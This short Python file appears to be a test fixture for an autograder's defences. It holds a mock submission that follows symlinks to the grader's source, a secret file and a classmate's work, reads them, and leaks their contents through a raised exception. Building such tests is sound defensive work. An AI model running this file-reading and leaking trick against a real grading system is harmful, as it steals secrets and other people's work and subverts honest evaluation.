"""Hands in symbolic links to the source, a secret file and a classmate's work and reads through them.

base: unsolved
max-score: 0
canary: leak, outside-file
"""
# %% q1
import os

loot = []
for name in ("source", "secret.txt", "classmate", "data"):
    for path in [name] + [os.path.join(name, entry) for entry in (os.listdir(name) if os.path.isdir(name) else [])]:
        try:
            loot.append(open(path).read())
        except OSError:
            pass
raise RuntimeError("\n".join(loot))
